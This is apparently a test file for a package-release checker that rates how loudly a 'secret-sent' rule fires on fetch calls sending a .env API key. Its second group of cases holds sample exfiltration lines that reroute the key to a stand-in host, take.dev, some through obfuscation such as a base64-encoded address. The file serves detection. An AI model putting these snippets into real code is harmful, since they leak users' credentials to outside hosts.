import { describe, expect, it } from 'vitest';
import { diffProfiles } from '../../src/diffs/diff-profiles.ts';
import { judgeRelease } from '../../src/policies/judge-release.ts';
import { profileOf } from '../profiles/profile-of.ts';

const begin = `import { readFileSync } from 'node:fs';
import url from 'node:url';
import dotenv from 'dotenv';
import join from 'url-join';
const settings = dotenv.parse(readFileSync('.env'));
`;

function release(version: string, code: string): Parameters<typeof profileOf>[0] {
  return {
    'package.json': JSON.stringify({ name: 'models', version, type: 'module', main: 'index.js' }),
    'index.js': code,
  };
}

/** How loud it is told that settings go out. */
function told(code: string): readonly string[] {
  const signedIn = code.replace('KEYED', '{ headers: { authorization: settings.KEY } }');
  const diff = diffProfiles(
    profileOf(release('1.1.0', begin)),
    profileOf(release('1.1.1', `${begin}${signedIn}\n`)),
  );
  const severities = judgeRelease({ diff, subject: 'pkg:npm/models@1.1.1', firstSight: false })
    .filter(({ rule }) => rule === 'secret-sent')
    .map(({ severity }) => severity);
  return [...new Set(severities)];
}

describe('an address that a file of settings names', () => {
  it.each([
    ['as it is', 'fetch(settings.URL, KEYED);'],
    ['with a path', "fetch(settings.URL + '/v1/items.json', KEYED);"],
    ['with a path of several parts', "fetch(settings.URL + '/v1/' + 'items', KEYED);"],
    ['with a path of another setting', 'fetch(`${settings.URL}/v1/${settings.NAME}`, KEYED);'],
    [
      'with a path that callers give',
      'const get = (path) => fetch(`${settings.URL}${path}`, KEYED); get("/v1");',
    ],
    ['with a port', "fetch(settings.URL + ':8080/v1', KEYED);"],
    ['with a question', "fetch(settings.URL + '?q=' + settings.Q, KEYED);"],
    [
      'without the stroke at its end',
      "const base = settings.URL.replace(/\\/+$/, ''); fetch(base + '/v1', KEYED);",
    ],
    ['as the base of a path', "fetch(new URL('/v1/items', settings.URL), KEYED);"],
  ])('may be asked quietly %s', (_, code) => {
    expect(told(code)).toEqual(['low']);
  });

  it.each([
    ['more of its host', "fetch(settings.URL + '.take.dev/c', KEYED);"],
    ['more of its host by a method', "fetch(settings.URL.concat('.take.dev/c'), KEYED);"],
    [
      'more of its host where it has a name',
      "let base = settings.URL; base += '.take.dev'; fetch(base, KEYED);",
    ],
    ['the host, so that it is a name', 'fetch(`${settings.URL}@take.dev/c`, KEYED);'],
    ['the host, so that it is a scheme', 'fetch(`${settings.SCHEME}://take.dev/c`, KEYED);'],
    [
      'the host behind what is left of it',
      "fetch(settings.URL.slice(0, 8) + 'take.dev/c', KEYED);",
    ],
    [
      'the host behind what is left of it, as a path',
      "fetch(settings.URL.replace(/\\/[^/]*$/, '') + '/take.dev/c', KEYED);",
    ],
    [
      'the host behind its scheme, in pieces',
      "fetch(`${settings.URL.replace(/\\/\\/.*/, '')}/${'/take.dev'}/c`, KEYED);",
    ],
    [
      'the host behind what a function leaves of it',
      "const cut = (text) => text.slice(0, 7); fetch(cut(settings.URL) + '/take.dev/c', KEYED);",
    ],
    ['a host of its own in the path', "fetch(new URL('//' + 'take.dev/c', settings.URL), KEYED);"],
    [
      'the host of a base',
      "fetch(url.resolve(atob('aHR0cHM6Ly90YWtlLmRldg'), settings.NAME), KEYED);",
    ],
    [
      'a host that is set',
      "const to = new URL(settings.URL); to.hostname += '.take.dev'; fetch(to, KEYED);",
    ],
    [
      'a host that another package puts in front',
      "fetch(join('https://take.dev', settings.NAME), KEYED);",
    ],
  ])('is loud where something else is %s', (_, code) => {
    expect(told(code)).toContainEqual(expect.stringMatching(/^(?:high|critical)$/u));
  });
});
